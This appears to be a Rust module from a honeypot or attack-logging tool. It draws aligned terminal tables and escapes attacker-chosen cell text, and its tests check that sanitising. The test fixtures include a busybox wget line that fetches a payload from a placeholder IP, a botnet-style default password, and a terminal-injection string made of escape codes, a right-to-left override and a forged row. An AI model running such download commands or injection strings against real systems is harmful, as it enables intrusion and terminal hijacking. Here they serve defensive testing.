//! Rows in aligned columns: text to the left, numbers with thousands separators to the right, cut to the width of the
//! terminal at the columns that may shrink. Without a terminal nothing is cut, since a program may read it.

use kizashi_event::{HostileText, escape_for_people};

use super::width::{Align, cut, padded, width};
use super::{Tone, harmless, numbers, painted};

/// Columns between two columns.
const GAP: usize = 2;
/// The narrowest that a column which may shrink gets.
const NARROWEST: usize = 8;

/// One column of a table.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Column {
    title: &'static str,
    align: Align,
    may_shrink: bool,
}

impl Column {
    /// Text that is shown whole.
    pub(crate) const fn text(title: &'static str) -> Self {
        Self { title, align: Align::Left, may_shrink: false }
    }

    /// Text that is cut where the terminal is too narrow.
    pub(crate) const fn long_text(title: &'static str) -> Self {
        Self { title, align: Align::Left, may_shrink: true }
    }

    /// Numbers and whatever ends at the right.
    pub(crate) const fn number(title: &'static str) -> Self {
        Self { title, align: Align::Right, may_shrink: false }
    }
}

/// One cell: made harmless when it is made.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Cell {
    shown: String,
    tone: Tone,
}

impl Cell {
    /// A text of the program's own; parts of it may be escaped already.
    pub(crate) fn text(text: &str) -> Self {
        Self { shown: harmless(text), tone: Tone::Plain }
    }

    /// A text that an attacker chose, not yet escaped.
    pub(crate) fn hostile(text: &str) -> Self {
        Self { shown: escape_for_people(text), tone: Tone::Plain }
    }

    /// A count.
    pub(crate) fn number(number: u64) -> Self {
        Self { shown: numbers::thousands(number), tone: Tone::Plain }
    }

    /// The same cell in this tone.
    pub(crate) fn tone(self, tone: Tone) -> Self {
        Self { tone, ..self }
    }
}

impl From<&HostileText> for Cell {
    fn from(text: &HostileText) -> Self {
        Self::hostile(text.raw())
    }
}

/// Rows under titles.
#[derive(Clone, Debug)]
pub(crate) struct Table {
    columns: Vec<Column>,
    rows: Vec<Vec<Cell>>,
}

impl Table {
    /// A table without rows.
    pub(crate) fn new(columns: &[Column]) -> Self {
        Self { columns: columns.to_vec(), rows: Vec::new() }
    }

    /// Adds a row. Cells that are missing are empty; cells past the last column are dropped.
    pub(crate) fn row(&mut self, cells: impl IntoIterator<Item = Cell>) {
        let mut row: Vec<Cell> = cells.into_iter().take(self.columns.len()).collect();
        row.resize_with(self.columns.len(), Cell::default);
        self.rows.push(row);
    }

    /// Whether there is no row.
    pub(crate) fn is_empty(&self) -> bool {
        self.rows.is_empty()
    }

    /// The table as lines, each ended by a line feed. `columns` is the width of the terminal, `None` where there is none:
    /// then nothing is cut.
    pub(crate) fn shown(&self, columns: Option<usize>, colours: bool) -> String {
        let widths = self.widths(columns);
        let titles: Vec<Cell> =
            self.columns.iter().map(|column| Cell::text(column.title).tone(Tone::Strong)).collect();
        let mut shown = String::new();
        for row in std::iter::once(&titles).chain(&self.rows) {
            self.add_line(&mut shown, row, &widths, colours);
        }
        shown
    }

    fn add_line(&self, shown: &mut String, row: &[Cell], widths: &[usize], colours: bool) {
        // Spaces wait until something stands behind them, so that no line ends in any.
        let mut spaces = 0;
        for ((column, cell), &wide) in self.columns.iter().zip(row).zip(widths) {
            let text = cut(&cell.shown, wide);
            let left_over = wide.saturating_sub(width(&text));
            let (before, behind) = match column.align {
                Align::Left => (0, left_over),
                Align::Right => (left_over, 0),
            };
            spaces += before;
            if wide > 0 && !text.is_empty() {
                shown.push_str(&padded("", spaces, Align::Left));
                shown.push_str(&painted(&text, cell.tone, colours));
                spaces = 0;
            }
            spaces += behind + if wide > 0 { GAP } else { 0 };
        }
        shown.push('\n');
    }

    /// How wide each column is: as its widest cell, less where the whole would be wider than the terminal. First the widest
    /// of those that may shrink gives way; when that is not enough the columns at the right do.
    fn widths(&self, columns: Option<usize>) -> Vec<usize> {
        let mut widths: Vec<usize> = (0..self.columns.len())
            .map(|at| {
                let cells = self.rows.iter().map(|row| width(&row[at].shown));
                cells.chain([width(self.columns[at].title)]).max().unwrap_or(0)
            })
            .collect();
        let Some(columns) = columns else { return widths };
        while total(&widths) > columns {
            let excess = total(&widths) - columns;
            let Some(at) = self.widest_that_may_shrink(&widths) else { break };
            let next = self.next_below(&widths, at);
            widths[at] -= excess.min(widths[at] - next).max(1);
        }
        for at in (0..widths.len()).rev() {
            let excess = total(&widths).saturating_sub(columns);
            widths[at] -= excess.min(widths[at]);
        }
        widths
    }

    fn widest_that_may_shrink(&self, widths: &[usize]) -> Option<usize> {
        (0..widths.len())
            .filter(|&at| self.columns[at].may_shrink && widths[at] > NARROWEST)
            .max_by_key(|&at| widths[at])
    }

    /// Down to where the column at `at` may shrink before another is the widest.
    fn next_below(&self, widths: &[usize], at: usize) -> usize {
        (0..widths.len())
            .filter(|&other| {
                other != at && self.columns[other].may_shrink && widths[other] < widths[at]
            })
            .map(|other| widths[other])
            .max()
            .unwrap_or(NARROWEST)
            .max(NARROWEST)
    }
}

/// Columns of a whole line: a column of no width has no gap either.
fn total(widths: &[usize]) -> usize {
    let present = widths.iter().filter(|wide| **wide > 0).count();
    widths.iter().sum::<usize>() + GAP * present.saturating_sub(1)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn ranking() -> Table {
        let mut table = Table::new(&[
            Column::long_text("password"),
            Column::number("events"),
            Column::text("last"),
        ]);
        table.row([Cell::hostile("xc3511"), Cell::number(114_195), Cell::text("21:54")]);
        table.row([Cell::hostile("兆し"), Cell::number(7), Cell::text("")]);
        table.row([
            Cell::hostile("/bin/busybox wget http://198.51.100.1/look-alike"),
            Cell::number(42),
            Cell::text("3:20"),
        ]);
        table
    }

    #[test]
    fn columns_stand_under_their_titles() {
        assert_eq!(
            ranking().shown(Some(40), false),
            "password                   events  last\n\
             xc3511                    114,195  21:54\n\
             兆し                            7\n\
             /bin/busybox wget http:…       42  3:20\n"
        );
    }

    #[test]
    fn without_a_terminal_nothing_is_cut() {
        assert!(ranking().shown(None, false).contains("http://198.51.100.1/look-alike"));
    }

    #[test]
    fn colours_do_not_move_a_column() {
        let plain = ranking().shown(Some(40), false);
        let coloured =
            ranking().shown(Some(40), true).replace("\u{1b}[1m", "").replace("\u{1b}[0m", "");
        assert_eq!(plain, coloured);
    }

    #[test]
    fn a_hostile_cell_cannot_act_on_the_terminal_whoever_made_it() {
        let attack = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}gpj.exe\r\nroot  99,999  now\u{9b}31m";
        for cell in
            [Cell::hostile(attack), Cell::text(attack), Cell::from(&HostileText::from(attack))]
        {
            let mut table = Table::new(&[Column::long_text("user")]);
            table.row([cell]);
            let shown = table.shown(None, false);
            assert_eq!(shown.lines().count(), 2, "{shown:?}");
            assert!(
                shown.chars().all(|c| c == '\n' || !c.is_control()) && !shown.contains('\u{202e}')
            );
            assert!(shown.contains("\\x1b[2J") && shown.contains("\\u{202e}"));
        }
    }

    #[test]
    fn rows_of_a_wrong_length_keep_the_table_whole() {
        let mut table = Table::new(&[Column::text("a"), Column::number("b")]);
        assert!(table.is_empty());
        table.row([]);
        table.row([Cell::number(1), Cell::number(2), Cell::number(3)]);
        assert_eq!(table.shown(Some(80), false), "a  b\n\n1  2\n");
    }

    proptest! {
        #[test]
        fn no_line_is_wider_than_the_terminal_and_no_character_acts(
            cells in prop::collection::vec((any::<String>(), any::<u64>(), any::<String>()), 0..12),
            columns in 0_usize..120,
        ) {
            let mut table = Table::new(&[Column::long_text("text"), Column::number("events"), Column::long_text("other")]);
            for (first, number, second) in &cells {
                table.row([Cell::hostile(first), Cell::number(*number), Cell::text(second)]);
            }
            let shown = table.shown(Some(columns), false);
            prop_assert_eq!(shown.lines().count(), cells.len() + 1);
            for line in shown.lines() {
                prop_assert!(width(line) <= columns, "{} > {columns}: {line:?}", width(line));
                prop_assert!(!line.chars().any(char::is_control));
            }
        }
    }
}
